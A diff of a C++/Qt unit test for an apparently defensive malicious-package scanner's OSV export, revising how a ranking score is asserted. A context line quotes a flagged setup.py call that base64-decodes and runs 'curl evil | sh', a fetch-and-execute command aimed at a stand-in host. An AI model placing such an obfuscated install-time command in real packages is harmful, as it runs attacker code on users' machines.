@@ -219,9 +219,12 @@ class TestExportOsv : public QObject {
         QVERIFY2(details.contains("- Evil_Pkg.Name-1.0/setup.py, line 6: decodes and runs a shell command\n"
                                   "    6:         os.system(base64.b64decode('Y3VybCBldmlsIHwgc2g=').decode())"),
                  qPrintable(details));
-        QVERIFY2(details.contains("rank 1 of its batch (/data/batch-1), install scope, score 0.6875 (d_b 0.9000, "
-                                  "d_m 0.2500), an outlier"),
+        // The score as the ranking that produced it computed it: its formula, then its terms.
+        QVERIFY2(details.contains("rank 1 of its batch (/data/batch-1), install scope, score 0.6875 = 0.2 · d_k/2 + "
+                                  "0.8 · (d_nb − d_m + 2)/4 + 0.05 · evidence with d_k "),
                  qPrintable(details));
+        QVERIFY2(details.contains(", d_m 0.2500, evidence "), qPrintable(details));
+        QVERIFY2(details.contains("an outlier of the clustering."), qPrintable(details));
     }
 
     // Calls in a file the script runs and in a decoded payload name their place; evidence in that file shows its line.
